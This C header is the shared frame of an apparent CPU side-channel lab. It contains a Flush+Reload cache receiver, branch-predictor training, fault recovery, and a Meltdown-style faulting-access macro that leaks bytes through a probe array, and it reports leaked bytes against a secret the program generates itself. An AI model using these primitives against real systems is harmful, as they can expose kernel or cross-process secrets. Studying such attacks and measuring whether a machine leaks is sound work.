/*
 * What all attacks here share: system calls without a C library, the cache as a channel, and the way of telling.
 *
 * An attack defines ABOUT, prepare(), and attempt(i), which tries once to move a line of probe[] into the cache that
 * stands for byte i of the secret. The rest (thresholds, counting, output) is done by lab_main() below:
 *
 *     PROGRAM [BYTES [TRIES [LEAD]]]
 *
 * BYTES to leak (1 to 256), TRIES for each byte at most, LEAD in hits that the best value needs to be believed.
 * What it prints, a line each:
 *
 *     who TEXT                 who may read the secret
 *     secret HEX               when the program made the secret itself
 *     leaked HEX               the bytes it believes; 00 where it believes none
 *     sure HEX                 01 for each byte that it believes
 *     tries N                  how many attempts it made for all bytes
 *     cached N, flushed N      cycles of a load that the caches hold, and of one they do not (medians)
 *     threshold N              a reload faster than this is a hit; 0: the clock tells no difference
 *     probes N0 ... N255       the reloads of the last attempt for the first byte, in the order of the values
 *     hist CYCLES COUNT        all reloads
 *     note TEXT                anything else worth telling
 */
#ifndef LAB_H
#define LAB_H

typedef unsigned char u8;
typedef unsigned short u16;
typedef unsigned int u32;
typedef unsigned long u64;
typedef long i64;

#define ALWAYS_INLINE inline __attribute__((always_inline))
#define NOINLINE __attribute__((noinline, noclone, noipa))
#define PAGE 4096
#define LINE 64
#ifndef MOST
#define MOST 256 /* bytes of a secret */
#endif
/* 256 values, each a line in a page of its own: prefetchers do not cross pages. */
#define VALUES 256
#define STRIDE 4096
#define STRIDE_SHIFT "12"

/* ---- system calls ------------------------------------------------------------------------------------------------ */

enum {
    SYS_read = 0, SYS_write = 1, SYS_open = 2, SYS_close = 3, SYS_mmap = 9, SYS_mprotect = 10, SYS_sigaction = 13,
    SYS_pipe = 22, SYS_sched_yield = 24, SYS_fork = 57, SYS_exit = 60, SYS_wait4 = 61, SYS_prctl = 157,
    SYS_getrandom = 318, SYS_pkey_mprotect = 329, SYS_pkey_alloc = 330,
};
enum { PROT_NONE, PROT_READ, PROT_WRITE, PROT_EXEC = 4, MAP_SHARED = 1, MAP_PRIVATE = 2, MAP_FIXED = 16, MAP_ANONYMOUS = 32 };
enum { SIGBUS = 7, SIGSEGV = 11, SA_SIGINFO = 4, SA_RESTORER = 0x4000000 };

static ALWAYS_INLINE i64 syscall6(i64 number, i64 a, i64 b, i64 c, i64 d, i64 e, i64 f)
{
    register i64 r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    i64 result;
    __asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
}

#define SYSCALL(number, a, b, c) syscall6(SYS_##number, (i64)(a), (i64)(b), (i64)(c), 0, 0, 0)

static ALWAYS_INLINE void *map(void *where, u64 size, int protection, int flags, int fd)
{
    return (void *)syscall6(SYS_mmap, (i64)where, (i64)size, protection, flags, fd, 0);
}

static ALWAYS_INLINE int failed(const void *mapping)
{
    return (u64)mapping > -4096UL;
}

/* GCC may call these two for what it finds in the source. */
void *memset(void *to, int value, u64 size)
{
    void *at = to;
    __asm__ volatile("rep stosb" : "+D"(at), "+c"(size) : "a"(value) : "memory");
    return to;
}

void *memcpy(void *to, const void *from, u64 size)
{
    void *at = to;
    __asm__ volatile("rep movsb" : "+D"(at), "+S"(from), "+c"(size) : : "memory");
    return to;
}

/* ---- telling ----------------------------------------------------------------------------------------------------- */

static char told[32768];
static u64 told_size;

static void say(const char *text)
{
    while (*text && told_size < sizeof told)
        told[told_size++] = *text++;
}

static void say_hex(const u8 *bytes, u64 count)
{
    for (u64 i = 0; i < count; i++) {
        char two[3] = {"0123456789abcdef"[bytes[i] >> 4], "0123456789abcdef"[bytes[i] & 15], 0};
        say(two);
    }
}

static void say_number(u64 number)
{
    char digits[24], *at = digits + 23;
    *at = 0;
    do
        *--at = '0' + number % 10;
    while (number /= 10);
    say(at);
}

static void say_value(const char *name, u64 number)
{
    say(name);
    say(" ");
    say_number(number);
    say("\n");
}

static void say_bytes(const char *name, const u8 *bytes, u64 count)
{
    say(name);
    say(" ");
    say_hex(bytes, count);
    say("\n");
}

static void note(const char *text)
{
    say("note ");
    say(text);
    say("\n");
}

static void tell(void)
{
    SYSCALL(write, 1, told, told_size);
    told_size = 0;
}

static void finish(int code)
{
    tell();
    SYSCALL(exit, code, 0, 0);
    __builtin_unreachable();
}

/* ---- the caches and the clock ------------------------------------------------------------------------------------ */

static ALWAYS_INLINE void flush(const volatile void *line)
{
    __asm__ volatile("clflush (%0)" : : "r"(line) : "memory");
}

static ALWAYS_INLINE void fence(void)
{
    __asm__ volatile("mfence\n\tlfence" : : : "memory");
}

static ALWAYS_INLINE void touch(const volatile void *at)
{
    __asm__ volatile("movzbl (%0), %%eax" : : "r"(at) : "rax", "memory");
}

/* Cycles of one load, and of the clock itself around it. */
static ALWAYS_INLINE u32 time_of_load(const volatile void *at)
{
    u32 cycles;
    __asm__ volatile("rdtscp\n\t"
                     "mov %%eax, %%esi\n\t"
                     "lfence\n\t"
                     "movzbl (%1), %%eax\n\t"
                     "rdtscp\n\t"
                     "sub %%esi, %%eax"
                     : "=&a"(cycles) : "r"(at) : "rcx", "rdx", "rsi", "memory");
    return cycles;
}

/* `yes` if the condition holds, else `no`, without a branch that could be predicted. */
static ALWAYS_INLINE u64 pick(int condition, u64 yes, u64 no)
{
    __asm__("test %1, %1\n\tcmovnz %2, %0" : "+r"(no) : "r"(condition), "r"(yes) : "cc");
    return no;
}

#define PICK(condition, yes, no) ((__typeof__(no))pick((condition), (u64)(yes), (u64)(no)))

struct cpuid { u32 a, b, c, d; };

static struct cpuid cpuid(u32 leaf, u32 part)
{
    struct cpuid is;
    __asm__ volatile("cpuid" : "=a"(is.a), "=b"(is.b), "=c"(is.c), "=d"(is.d) : "a"(leaf), "c"(part));
    return is;
}

static u32 dice = 12345;

static u32 roll(void)
{
    dice = dice * 1103515245 + 12345;
    return dice >> 16;
}

/* 4 to 11: how often to train before the next attack. A number that changes, or good predictors learn when it comes. */
static int trainings(void)
{
    return 4 + roll() % 8;
}

/* A branch with a history of its own: 32 jumps that go the same way whatever came before. */
#define SAME_HISTORY() __asm__ volatile(".rept 32\n\tjmp 1f\n1:\n\t.endr")

/* ---- the receiver: Flush+Reload ---------------------------------------------------------------------------------- */

#ifndef PROBED
#define PROBED VALUES
#endif
#ifndef LEAD
#define LEAD 1 /* hits */
#endif
#ifndef SPACING
#define SPACING STRIDE
#endif

static u8 before_probe[PAGE] __attribute__((aligned(PAGE)));
/* Not static: assembly names it. */
u8 probe[VALUES * SPACING] __attribute__((aligned(PAGE)));
static u8 after_probe[PAGE] __attribute__((aligned(PAGE)));

static u32 threshold;
static u32 hits[VALUES]; /* by value, and those that have any */
static u16 hit[VALUES];
static u32 hit_count;
static u8 ignored[VALUES]; /* lines that the victim touches when it does what it may */
static u16 reloads[PROBED];
static u32 histogram[1024];

static void flush_probe(void)
{
    for (u64 value = 0; value < PROBED; value += 8) {
        u8 *line = probe + value * SPACING;
        flush(line);
        flush(line + SPACING);
        flush(line + 2 * SPACING);
        flush(line + 3 * SPACING);
        flush(line + 4 * SPACING);
        flush(line + 5 * SPACING);
        flush(line + 6 * SPACING);
        flush(line + 7 * SPACING);
    }
    fence();
}

static void count_hit(u32 value)
{
    if (!hits[value]++)
        hit[hit_count++] = value;
}

static void forget_hits(void)
{
    while (hit_count)
        hits[hit[--hit_count]] = 0;
}

/* Times every line, in an order that no prefetcher guesses; counts those that were there already. */
static void reload_probe(void)
{
    static u16 found[PROBED + 1];
    u64 count = 0, quick = threshold;
    for (u64 i = 0, value = 13; i < PROBED; i++, value = (value + 167) % PROBED) {
        u64 cycles = time_of_load(probe + value * SPACING);
        cycles = pick(cycles > 1023, 1023, cycles);
        reloads[value] = cycles;
        histogram[cycles]++;
        found[count] = value;
        count += cycles < quick; /* no branch, which could be predicted */
    }
    while (count--)
        if (!ignored[found[count]])
            count_hit(found[count]);
}

static u32 median(u16 *values, u64 count)
{
    for (u64 i = 1; i < count; i++)
        for (u64 k = i; k && values[k - 1] > values[k]; k--) {
            u16 held = values[k];
            values[k] = values[k - 1];
            values[k - 1] = held;
        }
    return values[count / 2];
}

/* Finds the threshold between `cached` and `gone`; 0 when they are the same. */
static void set_threshold(u32 cached, u32 gone)
{
    threshold = gone > cached + cached / 4 + 8 ? cached + (gone - cached) / 2 : 0;
    say_value("cached", cached);
    say_value("flushed", gone);
    say_value("threshold", threshold);
}

#define SAMPLES 31

#ifndef LAB_OWN_RECEIVER
static void listen(void)
{
    u16 cached[SAMPLES], gone[SAMPLES];
    for (u64 i = 0; i < sizeof probe; i += STRIDE)
        probe[i] = 1;
    for (u64 i = 0; i < SAMPLES; i++) {
        u8 *line = probe + (i * 7 % PROBED) * STRIDE;
        touch(line);
        fence();
        cached[i] = time_of_load(line);
        flush(line);
        fence();
        gone[i] = time_of_load(line);
    }
    set_threshold(median(cached, SAMPLES), median(gone, SAMPLES));
}
#else
static void listen(void);
#endif

/* The value with `lead` more hits than any other, or -1. */
static int best_value(u32 lead)
{
    u32 best = 0, second = 0;
    int value = -1;
    for (u32 i = 0; i < hit_count; i++) {
        u32 count = hits[hit[i]];
        if (count > best) {
            second = best;
            best = count;
            value = hit[i];
        } else if (count > second) {
            second = count;
        }
    }
    return best >= second + lead ? value : -1;
}

/* ---- secrets and faults ------------------------------------------------------------------------------------------ */

static u8 leaked[MOST], sure[MOST];

/* Letters, figures and two more, so that no byte is 0: a value that many victims touch anyway. */
static void make_secret(u8 *secret, u64 count)
{
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    SYSCALL(getrandom, secret, count, 0);
    for (u64 i = 0; i < count; i++)
        secret[i] = letters[secret[i] & 63];
    say_bytes("secret", secret, count);
}

/* Where the program goes on after a fault: attacks store an address here just before the access that faults. */
u64 landing;
static u64 faults;

struct context { u64 flags, link, stack[3], r8_to_r15[8], rdi, rsi, rbp, rbx, rdx, rax, rcx, rsp, rip; };

static void on_signal(int signal, void *info, struct context *context)
{
    (void)signal, (void)info;
    if (!landing)
        SYSCALL(exit, 3, 0, 0);
    faults++;
    context->rip = landing;
}

__asm__("restore: mov $15, %eax\n\tsyscall"); /* rt_sigreturn */
extern char restore[];

static void catch_faults(void)
{
    u64 action[4] = {(u64)on_signal, SA_SIGINFO | SA_RESTORER, (u64)restore, 0};
    syscall6(SYS_sigaction, SIGSEGV, (i64)action, 0, 8, 0, 0);
    syscall6(SYS_sigaction, SIGBUS, (i64)action, 0, 8, 0, 0);
}

/* A load of 8 bytes that memory must answer: what comes after it retires late. */
u64 slow_word[LINE / 8] __attribute__((aligned(LINE)));

/*
 * The heart of the attacks that fault. `access` reads from (%1) into %rax (only al may be set); what it reads chooses
 * the line that is loaded next. When the fault is delivered the signal handler goes on at 1:.
 */
#define FAULTING_ACCESS(access, address, value)                                                                        \
    __asm__ volatile("movq $1f, landing\n\t"                                                                           \
                     "clflush slow_word\n\t"                                                                           \
                     "xor %%eax, %%eax\n\t"                                                                            \
                     "mfence\n\t"                                                                                      \
                     "mov slow_word, %%rcx\n\t" access "\n\t"                                                          \
                     "shl $" STRIDE_SHIFT ", %%rax\n\t"                                                                \
                     "movzbl probe(%%rax), %%eax\n\t"                                                                  \
                     "1:"                                                                                              \
                     : : "r"(address), "r"(value) : "rax", "rcx", "rdx", "memory", "cc")
/* The same without the load from memory, for attacks that want to be the first after the system call. */
#define STALE_ACCESS(address)                                                                                          \
    __asm__ volatile("movq $1f, landing\n\t"                                                                           \
                     "xor %%eax, %%eax\n\t" LOAD_BYTE "\n\t"                                                           \
                     "shl $" STRIDE_SHIFT ", %%rax\n\t"                                                                \
                     "movzbl probe(%%rax), %%eax\n\t"                                                                  \
                     "1:"                                                                                              \
                     : : "r"(address) : "rax", "memory", "cc")
#define LOAD_BYTE "movzbl (%0), %%eax"

/* ---- the frame ---------------------------------------------------------------------------------------------------- */

static const char ABOUT[];                /* who may read the secret */
static int prepare(u64 bytes);            /* 0: this machine lacks what the attack needs */
static void attempt(u64 index);           /* one try for one byte, up to the reload */
#ifndef LAB_OWN_RECEIVER
static void receive(void)
{
    reload_probe();
}
#else
static void receive(void);
#endif
static void done(void);

static u64 parse(const char *text, u64 otherwise, u64 most)
{
    u64 number = 0;
    if (!text)
        return otherwise;
    while (*text >= '0' && *text <= '9' && number < 1000000)
        number = number * 10 + (*text++ - '0');
    return number < 1 ? 1 : number > most ? most : number;
}

static void report(u64 bytes, u64 tries, const u16 *first)
{
    say_bytes("leaked", leaked, bytes);
    say_bytes("sure", sure, bytes);
    say_value("tries", tries);
    say("probes");
    for (u64 i = 0; i < PROBED; i++) {
        say(" ");
        say_number(first[i]);
    }
    say("\n");
    for (u64 i = 0; i < 1024; i++)
        if (histogram[i]) {
            say("hist ");
            say_number(i);
            say(" ");
            say_number(histogram[i]);
            say("\n");
        }
}

static void leak(u64 bytes, u64 most_tries, u32 lead)
{
    static u16 first[PROBED];
    u64 all = 0;
    for (u64 index = 0; index < bytes; index++) {
        int value = -1;
        forget_hits();
        for (u64 tries = 0; tries < most_tries && value < 0; tries++, all++) {
            attempt(index);
            receive();
            value = best_value(lead);
        }
        sure[index] = value >= 0;
        leaked[index] = value >= 0 ? value : 0;
        if (!index)
            memcpy(first, reloads, sizeof first);
    }
    report(bytes, all, first);
}

__attribute__((used)) static void lab_main(u64 *stack)
{
    u64 count = stack[0];
    const char **arguments = (const char **)stack + 1;
    u64 bytes = parse(count > 1 ? arguments[1] : 0, 4, MOST);
    u64 tries = parse(count > 2 ? arguments[2] : 0, 10, 1000000);
    u32 lead = parse(count > 3 ? arguments[3] : 0, LEAD, 1000);
    before_probe[0] = after_probe[0] = 1;
    say("who ");
    say(ABOUT);
    say("\n");
    listen();
    if (prepare(bytes))
        leak(bytes, tries, lead);
    else
        report(bytes, 0, reloads);
    done();
    finish(0);
}

/* The stack begins at the end of a page: prime-probe knows then which sets of the cache it uses. */
__asm__(".globl _start\n_start:\n\txor %ebp, %ebp\n\tmov %rsp, %rdi\n\tand $-4096, %rsp\n\tcall lab_main\n\thlt");

#endif
